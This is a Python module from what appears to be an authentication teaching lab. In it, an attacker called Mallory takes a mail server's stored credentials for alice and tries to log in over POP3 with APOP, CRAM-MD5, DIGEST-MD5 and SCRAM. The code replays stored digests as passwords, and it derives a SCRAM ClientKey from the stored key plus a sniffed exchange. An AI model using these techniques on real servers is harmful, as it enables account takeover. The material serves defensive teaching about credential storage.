"""What a thief of the server's store gets: she takes what is kept about alice, and tries to log in with it."""

from __future__ import annotations

import base64
import hmac
from typing import TYPE_CHECKING

from ..attacks import trial
from ..attacks.loops import Scram
from ..clients import auth
from ..sasl import SaslError
from ..sasl.credentials import Verifier, verifier
from .answer import Answer
from .listener import Session

if TYPE_CHECKING:
    from ..lab import Lab

QUESTION = "what the server must store"


def steal(lab: Lab, way: str, channel: str, heard: Session) -> Answer:
    """Try to log in as alice with what the server has to keep for this way, and with what was heard of it besides.

    What is kept doesn't depend on the channel; what can be heard does.
    """
    kept = {mechanism: value for mechanism, _, value in lab.store("alice")}
    if way in ("APOP", "CRAM-MD5"):
        mailbox = lab.mallory.pop3()
        password = kept["APOP, CRAM-MD5"]
        mailbox.apop("alice", password) if way == "APOP" else auth(mailbox, way, "alice", password)
        mailbox.quit()
        because = "This store has the password itself, and Mallory logged in with it."
        if way == "APOP":
            return Answer(way, channel, QUESTION, "open", "the password", ("password", "login"), because)
        because += " Two MD5 states made from it would do for the server (RFC 2195), and for her."
        return Answer(way, channel, QUESTION, "open", "as good as the password", ("login",), because)
    if way == "DIGEST-MD5":
        mailbox = lab.mallory.pop3()
        auth(mailbox, way, "alice", stored=bytes.fromhex(kept[way]))
        mailbox.quit()
        because = "The store has MD5(user:realm:password). Mallory logged in with that, and needs no password here."
        return Answer(way, channel, QUESTION, "open", "as good as the password", ("login",), because)
    entry = parse(kept["SCRAM-SHA-256"])
    password = lab.student.password("alice")
    if way != "SCRAM-SHA-256":
        right = verifier(password, entry.salt, entry.iterations) == entry
        wrong = verifier(password + "x", entry.salt, entry.iterations) == entry
        if not right or wrong:
            raise RuntimeError("What the server keeps for SCRAM doesn't tell the right password from a wrong one.")
        told = next((found for found in heard.logins if found.password == password), None)
        if told:
            because = f"The store has only a salted hash, but frame {told.frame} of what was heard has the password."
            return Answer(
                way, channel, QUESTION, "open", "a salted hash", ("password", "login"), because, heard.talks[:1],
                told.frame,
            )  # fmt: skip
        because = (
            "The server gets the password itself, so a salted, slow hash is enough to check it (tried with what it "
            f"keeps for SCRAM). Mallory can guess, with {entry.iterations:,} rounds a guess, and not log in."
        )
        return Answer(way, channel, QUESTION, "depends", "a salted hash", ("guesses",), because)
    refused = try_key(lab, entry.stored_key)
    if not refused:
        raise RuntimeError("The server took StoredKey for ClientKey: that isn't SCRAM.")
    because = f"The store has a salt and two keys, and logging in takes a third. With one of these: {refused}."
    exchanges = [found for found in heard.logins if found.mechanism == way]
    if not exchanges:
        return Answer(way, channel, QUESTION, "depends", "salt and two keys", ("guesses",), because)
    key, frame = client_key(trial(exchanges[0]), entry.stored_key), exchanges[0].frame
    if refused := try_key(lab, key):
        raise RuntimeError(f"The third key was computed from store and exchange, and mail said: {refused}")
    because += (
        f" But with the login that was heard from frame {frame} on the third can be computed: with it she got in."
    )
    talks = heard.talks[:1]
    return Answer(way, channel, QUESTION, "open", "salt and two keys", ("login",), because, talks, frame)


def parse(kept: str) -> Verifier:
    """A line as RFC 5803 writes it, ``SCRAM-SHA-256$4096:salt$StoredKey:ServerKey``, taken apart."""
    _, parameters, keys = kept.split("$")
    iterations, salt = parameters.split(":")
    stored, server = keys.split(":")
    return Verifier(base64.b64decode(salt), int(iterations), base64.b64decode(stored), base64.b64decode(server))


def client_key(heard: object, stored_key: bytes) -> bytes:
    """ClientKey = ClientProof XOR HMAC(StoredKey, AuthMessage): RFC 5802 section 3, read backwards."""
    assert isinstance(heard, Scram)
    signature = hmac.digest(stored_key, heard.auth_message, heard.hash)
    return bytes(a ^ b for a, b in zip(heard.proof, signature, strict=True))


def try_key(lab: Lab, key: bytes) -> str:
    """Log in over SCRAM with that in ClientKey's place: what the server says against it, empty if it lets her in."""
    mailbox = lab.mallory.pop3()
    try:
        auth(mailbox, "SCRAM-SHA-256", "alice", stored=key)
    except SaslError as error:
        return str(error)
    finally:
        mailbox.close()
    return ""
